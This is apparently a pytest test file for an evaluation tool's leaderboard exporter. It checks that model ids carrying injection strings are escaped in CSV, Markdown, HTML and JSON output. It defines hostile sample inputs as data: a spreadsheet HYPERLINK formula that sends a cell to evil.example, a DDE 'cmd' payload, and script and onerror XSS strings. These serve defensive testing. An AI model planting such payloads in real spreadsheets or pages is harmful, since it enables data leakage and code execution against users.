"""Hostile model ids: every format is written, nothing runs, tables keep their shape."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pinocchio_eval.leaderboard import export
from pinocchio_eval.leaderboard.exporters import BUILTIN_EXPORTERS
from pinocchio_eval.leaderboard.model import Leaderboard, finish_table
from pinocchio_eval.leaderboard.scores import METHODS
from pinocchio_eval.outputs import csv_cell, markdown_cell, terminal_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "<script>alert(1)</script>",
           "a $\\x$ b", "pipe|and\nnewline", "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
           '<img src=x onerror="alert(1)">', "\x1b[31mred\x1b[0m", "tab\tstart", "\rcr",
           "NUL", "con.txt", "data", "Lpt9"]  # names no path component may take
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _board(models: list[str], benchmark: str = "=mmlu:acc") -> Leaderboard:
    n = len(models)
    pi = np.linspace(0.5, -0.5, n) if n > 1 else np.array([0.1])
    table = pd.DataFrame({"model": models, "pi_panel": pi, "pi_panel_lo": pi - 0.1,
                          "pi_panel_hi": pi + 0.1, "parse_rate": 0.9, benchmark: -0.25,
                          "provider": [f"={m}" for m in models]})
    return Leaderboard(table=finish_table(table, METHODS["panel"]), title="$x$ | <b>t</b>",
                       methods=[METHODS["panel"]], benchmarks=[benchmark],
                       notes=["note with <script> and |"], provenance={"generator": "tests"})


def _check_written(out, models: list[str]) -> None:
    # every registered format was written (Every Eval Ever writes its own eee/ tree)
    assert {p.name for p in out.iterdir()} == {f"leaderboard.{s}" for s in
                                                ("csv", "json", "md", "html", "png")} | {"eee"}
    assert len(list((out / "eee").rglob("*.json"))) == len(models)
    # CSV: no cell starts a formula unless it is a number; ids read back after the quote
    with (out / "leaderboard.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA):
                float(cell)  # only numbers may start with - or +
    header = rows[0]
    back = [r[header.index("model")] for r in rows[1:]]
    assert sorted(b[1:] if b.startswith("'") else b for b in back) == sorted(models)
    assert "'=mmlu:acc" in header
    # JSON keeps the ids exactly
    doc = json.loads((out / "leaderboard.json").read_text(encoding="utf-8"))
    assert sorted(r["model"] for r in doc["rows"]) == sorted(models)
    # Markdown: one table row per model, no raw HTML
    md = (out / "leaderboard.md").read_text(encoding="utf-8")
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len(table) == 2 + len(models)
    assert "<script>" not in md and "<img" not in md
    html = (out / "leaderboard.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html
    assert (out / "leaderboard.png").read_bytes()[:4] == b"\x89PNG"


def test_hostile_ids_in_every_format(tmp_path):
    export(_board(HOSTILE), tmp_path)
    _check_written(tmp_path, HOSTILE)
    md = (tmp_path / "leaderboard.md").read_text()
    assert "pipe\\|and<br>newline" in md and "&lt;script&gt;" in md


@settings(max_examples=12, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(
    st.text(st.characters(blacklist_categories=["Cs"]), min_size=1, max_size=30),
    st.sampled_from(HOSTILE),
    st.text(alphabet="=$|\n@+-<>&\\ab", min_size=1, max_size=12)),
    min_size=1, max_size=6, unique=True))
def test_random_ids_write_and_read_back(tmp_path_factory, models):
    out = tmp_path_factory.mktemp("board")
    export(_board(models), out)
    _check_written(out, models)


def test_reserved_names_as_model_ids_write_and_read_back(tmp_path):
    """Windows device names and the datastore's 'data' are folder names in the Every Eval Ever
    tree; they get an underscore there (its validator refuses them) and stay as given elsewhere."""
    models = ["NUL", "con.txt", "data", "Lpt9", "nul/x"]
    export(_board(models), tmp_path)
    _check_written(tmp_path, models)
    folders = {p.name for p in (tmp_path / "eee").rglob("*") if p.is_dir()}
    assert {"NUL_", "con_.txt", "data_", "Lpt9_"} <= folders
    assert not folders & {"NUL", "con.txt", "Lpt9"}


def test_failing_format_leaves_no_partial_board(tmp_path, monkeypatch):
    class Broken:
        name = "broken"

        def write(self, board, out_dir):
            raise RuntimeError("disk full")

    import pinocchio_eval.leaderboard.exporters as exporters

    monkeypatch.setattr(exporters, "get_exporters", lambda: {
        **{e.name: e for e in BUILTIN_EXPORTERS}, "broken": Broken()})
    out = tmp_path / "board"
    out.mkdir()
    (out / "mine.txt").write_text("kept")
    with pytest.raises(RuntimeError, match="disk full"):
        export(_board(["a", "b"]), out)
    assert [p.name for p in out.iterdir()] == ["mine.txt"]
    assert [p.name for p in tmp_path.iterdir()] == ["board"]  # no temporary folder left


def test_cell_helpers():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-0.5") == "-0.5" and csv_cell(3) == 3
    assert csv_cell("-inf") == "-inf" and csv_cell("- x") == "'- x"
    assert markdown_cell("a|b\nc<d>") == "a\\|b<br>c&lt;d&gt;"
    assert terminal_safe("x\x1b[2Jy\n") == "x\\x1b[2Jy\\x0a"


def test_score_markdown_and_csv_are_escaped(tmp_path):
    from click.testing import CliRunner

    from leaderboard_fixtures import small_panel
    from pinocchio_eval.cli import cli

    panel = small_panel(n_models=5, n_questionnaires=3)
    evil = {m: n for m, n in zip(sorted(panel["model"].unique()),
                                 ["pipe|id", "=cmd()", "<b>x</b>", "ok", "@at"], strict=True)}
    panel["model"] = panel["model"].map(evil)
    panel.to_csv(tmp_path / "p.csv", index=False)
    res = CliRunner().invoke(cli, ["score", str(tmp_path / "p.csv"), "--bootstrap", "0",
                                   "--format", "markdown", "--method", "panel"])
    assert res.exit_code == 0, res.output
    rows = [line for line in res.output.splitlines() if line.startswith("| ")]
    assert len(rows) == 1 + 5 and "pipe\\|id" in res.output and "<b>" not in res.output
    res = CliRunner().invoke(cli, ["score", str(tmp_path / "p.csv"), "--bootstrap", "0",
                                   "--method", "panel", "--out", str(tmp_path / "s.csv")])
    assert res.exit_code == 0, res.output
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "s.csv").read_text()))
             for c in row]
    assert "'=cmd()" in cells and "'@at" in cells
    assert not any(c.startswith(("=", "@")) for c in cells)


def test_board_built_from_hostile_ids_end_to_end(tmp_path):
    """Through the command: a response table with hostile model ids → every format."""
    from click.testing import CliRunner

    from leaderboard_fixtures import small_panel
    from pinocchio_eval.cli import cli

    panel = small_panel(n_models=5, n_questionnaires=3)
    ids = ['=HYPERLINK("http://x.example","y")', "<script>alert(1)</script>", "a $\\x$ b",
           "pipe|and\nnewline", "plain"]
    panel["model"] = panel["model"].map(dict(zip(sorted(panel["model"].unique()), ids,
                                                 strict=True)))
    panel.to_parquet(tmp_path / "p.parquet")  # Parquet keeps the newline inside the id
    out = tmp_path / "board"
    res = CliRunner().invoke(cli, ["leaderboard", "build", str(tmp_path / "p.parquet"),
                                   "--out", str(out), "--bootstrap", "0"])
    assert res.exit_code == 0, res.output
    with (out / "leaderboard.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert not any(c.startswith(FORMULA) and not _is_number(c) for r in rows for c in r)
    model_col = [r[rows[0].index("model")] for r in rows[1:]]
    assert sorted(m.removeprefix("'") for m in model_col) == sorted(ids)
    md = (out / "leaderboard.md").read_text(encoding="utf-8")
    assert len([line for line in md.splitlines() if line.startswith("|")]) == 2 + len(ids)
    doc = json.loads((out / "leaderboard.json").read_text(encoding="utf-8"))
    assert sorted(r["model"] for r in doc["rows"]) == sorted(ids)
    assert (out / "leaderboard.png").stat().st_size > 0


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False
